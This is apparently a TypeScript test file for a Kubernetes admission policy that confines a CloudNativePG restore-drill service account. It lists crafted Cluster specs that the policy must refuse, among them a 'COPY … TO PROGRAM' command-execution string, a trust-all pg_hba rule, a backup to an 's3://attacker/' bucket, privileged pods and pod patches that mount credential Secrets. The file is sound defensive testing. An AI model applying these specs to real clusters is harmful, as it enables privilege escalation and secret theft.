// Issue 24 item 6: the restore drill cannot be borrowed. The ValidatingAdmissionPolicy rendered
// for the drill's ServiceAccount is evaluated here with a CEL evaluator (lib/validate/
// admission-policy-cel.ts) exactly as rendered in dist/: it admits the scratch Cluster the drill
// builds (lib/ops/restore-drill/drill.ts scratchClusterSpec), also after CloudNativePG's
// defaulting, and refuses each crafted Cluster below; requests by anyone else are not matched.
import * as fs from 'node:fs';
import * as path from 'node:path';
import YAML from 'yaml';
import { describe, expect, it } from 'vitest';
import type { KubeObject } from '../../lib/ops/kube/client';
import { scratchClusterSpec } from '../../lib/ops/restore-drill/drill';
import { restoreDrillValidations } from '../../lib/backup/restore-drill-admission-policy';
import { evaluateAdmissionPolicy, type AdmissionPolicySpec } from '../../lib/validate/admission-policy-cel';
import { loadSchemaSet, type CrdKindSchema } from '../../lib/validate/schema-source';
import { loadValidator } from '../../lib/validate';

const NS = 'databases';
const SCRATCH = 'restore-drill-scratch';
const DRILL = `system:serviceaccount:${NS}:restore-drill`;
const DIST = path.resolve(__dirname, '..', '..', 'dist', 'production');

const clusterSchema = (loadSchemaSet().kinds.get('postgresql.cnpg.io/v1/Cluster') as CrdKindSchema).schema;

function renderedPolicy(): { policy: AdmissionPolicySpec; binding: Record<string, unknown>; source: KubeObject } {
  const file = fs.readdirSync(DIST).find((f) => f.startsWith('validatingadmissionpolicy-'));
  const bindingFile = fs.readdirSync(DIST).find((f) => f.startsWith('validatingadmissionpolicybinding-'));
  expect(file, 'dist/production has the restore drill policy').toBeDefined();
  expect(bindingFile).toBeDefined();
  const source = YAML.parse(fs.readFileSync(path.join(DIST, 'cluster-orders.yaml'), 'utf8')) as KubeObject;
  return {
    policy: (YAML.parse(fs.readFileSync(path.join(DIST, file!), 'utf8')) as { spec: AdmissionPolicySpec }).spec,
    binding: YAML.parse(fs.readFileSync(path.join(DIST, bindingFile!), 'utf8')) as Record<string, unknown>,
    source,
  };
}

const { policy, binding, source } = renderedPolicy();
// The store the drill reads, as its CronJob names it (--object-store).
const objectStore = (() => {
  const args = fs
    .readFileSync(path.join(DIST, 'cronjob-restore-drill.yaml'), 'utf8')
    .split('\n')
    .map((l) => l.trim());
  return args[args.indexOf('- "--object-store"') + 1].slice(2);
})();

function drillCluster(from: 'volumeSnapshot' | 'objectStore'): KubeObject {
  return scratchClusterSpec(
    { namespace: NS, source: from, objectStore, scratchCluster: SCRATCH, ownerSecrets: {}, timeoutSeconds: 60 },
    source,
    {
      apiVersion: 'postgresql.cnpg.io/v1',
      kind: 'Backup',
      metadata: { name: 'orders-20261207020000' },
    } as KubeObject,
  );
}

/** What CloudNativePG's mutating webhook adds (cloudnative-pg@v1.30.0 api/v1/cluster_defaults.go setDefaults). */
function defaulted(cluster: KubeObject): KubeObject {
  const spec = structuredClone(cluster.spec) as Record<string, any>;
  spec.affinity = { podAntiAffinityType: 'preferred' };
  spec.logLevel = 'info';
  spec.resources = {};
  spec.bootstrap.recovery = { ...spec.bootstrap.recovery, database: 'app', owner: 'app' };
  spec.postgresql = { parameters: { ...(spec.postgresql?.parameters ?? {}), archive_timeout: '5min', wal_keep_size: '512MB' } };
  spec.monitoring = {
    customQueriesConfigMap: [{ name: 'cnpg-default-monitoring', key: 'queries' }],
    customQueriesSecret: [{ name: 'cnpg-default-monitoring', key: 'queries' }],
  };
  spec.plugins = [{ name: 'included.example.com', enabled: true }];
  spec.replicationSlots = { highAvailability: { enabled: true, slotPrefix: '_cnpg_' }, synchronizeReplicas: { enabled: true } };
  spec.probes = { liveness: { isolationCheck: { enabled: true } } };
  return { ...cluster, spec };
}

function admit(object: KubeObject, username = DRILL) {
  return evaluateAdmissionPolicy(policy, { username, object, schema: clusterSchema });
}

function crafted(change: (spec: Record<string, any>) => void, base = drillCluster('volumeSnapshot')): KubeObject {
  const copy = structuredClone(base);
  change(copy.spec as Record<string, unknown>);
  return copy;
}

describe('restore drill admission policy (issue 24 item 6)', () => {
  it('is rendered as admissionregistration.k8s.io/v1, bound with Deny, fails closed, and validates', () => {
    expect(binding).toMatchObject({
      apiVersion: 'admissionregistration.k8s.io/v1',
      spec: { validationActions: ['Deny'], matchResources: { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': NS } } } },
    });
    expect(policy.failurePolicy).toBe('Fail');
    const validator = loadValidator({ unvalidatedKinds: [] });
    for (const f of fs.readdirSync(DIST).filter((x) => x.startsWith('validatingadmissionpolicy')))
      expect(validator.validateFiles([path.join(DIST, f)]).issues).toEqual([]);
  });

  it("admits the drill's own scratch Cluster, from a volume snapshot and from the object store, as created and after defaulting", () => {
    for (const from of ['volumeSnapshot', 'objectStore'] as const) {
      expect(admit(drillCluster(from))).toEqual({ matched: true, allowed: true, refusals: [] });
      expect(admit(defaulted(drillCluster(from)))).toEqual({ matched: true, allowed: true, refusals: [] });
    }
  });

  it('does not apply to anyone but the drill (the operator, Argo CD)', () => {
    const bad = crafted((s) => (s.instances = 3));
    expect(admit(bad, 'system:serviceaccount:cnpg-system:cnpg-manager')).toEqual({ matched: false });
    expect(admit(bad, 'system:serviceaccount:argocd:argocd-application-controller')).toEqual({ matched: false });
  });

  const attacks: Array<[string, () => KubeObject]> = [
    [
      'another name (replacing or shadowing a real cluster)',
      () => ({ ...drillCluster('volumeSnapshot'), metadata: { name: 'orders-copy', namespace: NS } }),
    ],
    ['three instances', () => crafted((s) => (s.instances = 3))],
    ['the default PodDisruptionBudget', () => crafted((s) => delete s.enablePDB)],
    [
      'postInitSQL as superuser (initdb)',
      () => crafted((s) => (s.bootstrap = { initdb: { postInitSQL: ["COPY (SELECT 1) TO PROGRAM 'id'"] } })),
    ],
    ['pg_basebackup from a live cluster', () => crafted((s) => (s.bootstrap = { pg_basebackup: { source: 'origin' } }))],
    // Issue 24: the drill checks as the owners; a superuser login on the scratch cluster is not its shape.
    ['superuser access (a network login as postgres)', () => crafted((s) => (s.enableSuperuserAccess = true))],
    ['any Secret as superuser password', () => crafted((s) => (s.superuserSecret = { name: 'payments-db-credentials' }))],
    [
      'any Secret in the environment',
      () => crafted((s) => (s.env = [{ name: 'X', valueFrom: { secretKeyRef: { name: 'payments-db-credentials', key: 'password' } } }])),
    ],
    [
      'any Secret as a projected volume',
      () => crafted((s) => (s.projectedVolumeTemplate = { sources: [{ secret: { name: 'acme-object-store-credentials' } }] })),
    ],
    [
      'a managed role reading any Secret',
      () => crafted((s) => (s.managed = { roles: [{ name: 'x', login: true, passwordSecret: { name: 'orders-db-credentials' } }] })),
    ],
    [
      'a LoadBalancer service',
      () =>
        crafted(
          (s) =>
            (s.managed = {
              services: {
                additional: [{ selectorType: 'rw', serviceTemplate: { metadata: { name: 'x' }, spec: { type: 'LoadBalancer' } } }],
              },
            }),
        ),
    ],
    ['a backup to another bucket', () => crafted((s) => (s.backup = { barmanObjectStore: { destinationPath: 's3://attacker/' } }))],
    [
      'a WAL archive through a plugin',
      () =>
        crafted(
          (s) => (s.plugins = [{ name: 'barman-cloud.cloudnative-pg.io', isWALArchiver: true, parameters: { barmanObjectName: 'x' } }]),
        ),
    ],
    ['an image of its own', () => crafted((s) => (s.imageName = 'registry.example.com/attacker/postgres:16.10'))],
    ['a pg_hba trust rule', () => crafted((s) => (s.postgresql = { pg_hba: ['host all all 0.0.0.0/0 trust'] }))],
    ['a preloaded library', () => crafted((s) => (s.postgresql = { shared_preload_libraries: ['evil'] }))],
    [
      'a volume cloned from any PVC',
      () =>
        crafted((s) => (s.storage = { ...s.storage, pvcTemplate: { dataSource: { kind: 'PersistentVolumeClaim', name: 'payments-1' } } })),
    ],
    ['the owner password from any Secret', () => crafted((s) => (s.bootstrap.recovery.secret = { name: 'payments-db-credentials' }))],
    [
      'a recovery from any VolumeSnapshot',
      () =>
        crafted(
          (s) =>
            (s.bootstrap.recovery = {
              volumeSnapshots: { storage: { name: 'x', kind: 'VolumeSnapshot', apiGroup: 'snapshot.storage.k8s.io' } },
            }),
        ),
    ],
    [
      'an external cluster with a password Secret',
      () =>
        crafted(
          (s) =>
            (s.externalClusters = [
              { name: 'origin', connectionParameters: { host: 'x' }, password: { name: 'payments-db-credentials', key: 'password' } },
            ]),
        ),
    ],
    [
      'another object store',
      () => crafted((s) => (s.externalClusters[0].plugin.parameters.barmanObjectName = 'other-store'), drillCluster('objectStore')),
    ],
    [
      'a server that is not a cluster here',
      () => crafted((s) => (s.externalClusters[0].plugin.parameters.serverName = 'elsewhere'), drillCluster('objectStore')),
    ],
    [
      'a control-plane node',
      () =>
        crafted(
          (s) => (s.affinity = { tolerations: [{ operator: 'Exists' }], nodeSelector: { 'node-role.kubernetes.io/control-plane': '' } }),
        ),
    ],
    ['a privileged security context', () => crafted((s) => (s.securityContext = { privileged: true }))],
    [
      'another ServiceAccount',
      () => crafted((s) => (s.serviceAccountTemplate = { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'x' } } })),
    ],
    [
      'a custom monitoring query from a Secret',
      () => crafted((s) => (s.monitoring = { customQueriesSecret: [{ name: 'payments-db-credentials', key: 'password' }] })),
    ],
    ['TLS from any Secret', () => crafted((s) => (s.certificates = { serverTLSSecret: 'payments-tls', serverCASecret: 'payments-ca' }))],
    // Attack on issue 24 (platform side): CloudNativePG applies cnpg.io/podPatch to every instance
    // pod (cloudnative-pg@v1.30.0 pkg/specs/pods.go): another ServiceAccount, any Secret mounted.
    [
      'a pod patch (another ServiceAccount, any Secret as a volume)',
      () => ({
        ...drillCluster('volumeSnapshot'),
        metadata: {
          ...drillCluster('volumeSnapshot').metadata,
          annotations: {
            'cnpg.io/podPatch': JSON.stringify([
              { op: 'replace', path: '/spec/serviceAccountName', value: 'prune-backups' },
              { op: 'add', path: '/spec/volumes/-', value: { name: 'x', secret: { secretName: 'acme-object-store-credentials' } } },
            ]),
          },
        },
      }),
    ],
    [
      "the operator's webhook turned off",
      () => ({
        ...drillCluster('volumeSnapshot'),
        metadata: { ...drillCluster('volumeSnapshot').metadata, annotations: { 'cnpg.io/validation': 'disabled' } },
      }),
    ],
  ];
  it.each(attacks)('refuses %s', (_name, make) => {
    const outcome = admit(make());
    expect(outcome.matched).toBe(true);
    expect(outcome).toMatchObject({ allowed: false });
  });
});

describe('restore drill admission policy of a drill from volume snapshots', () => {
  it('refuses any external cluster (the drill names none)', () => {
    const validations = restoreDrillValidations({
      namespace: NS,
      serviceAccount: 'restore-drill',
      scratchCluster: SCRATCH,
      sourceClusters: ['orders'],
      images: ['ghcr.io/cloudnative-pg/postgresql:16.10-system-trixie'],
      imageCatalogs: [],
      labels: {},
    });
    const spec = { failurePolicy: 'Fail' as const, validations };
    const object = {
      apiVersion: 'postgresql.cnpg.io/v1',
      kind: 'Cluster',
      metadata: { name: SCRATCH, namespace: NS },
      spec: {
        instances: 1,
        enablePDB: false,
        imageName: 'ghcr.io/cloudnative-pg/postgresql:16.10-system-trixie',
        storage: { size: '1Gi' },
        bootstrap: { recovery: { backup: { name: 'orders-1' } } },
      },
    };
    expect(evaluateAdmissionPolicy(spec, { username: DRILL, object, schema: clusterSchema })).toMatchObject({ allowed: true });
    const withOrigin = structuredClone(object) as Record<string, any>;
    withOrigin.spec.bootstrap = { recovery: { source: 'origin' } };
    withOrigin.spec.externalClusters = [
      { name: 'origin', plugin: { name: 'barman-cloud.cloudnative-pg.io', parameters: { barmanObjectName: 'x', serverName: 'orders' } } },
    ];
    expect(evaluateAdmissionPolicy(spec, { username: DRILL, object: withOrigin, schema: clusterSchema })).toMatchObject({
      allowed: false,
      refusals: ['the scratch cluster has no external cluster'],
    });
  });
});
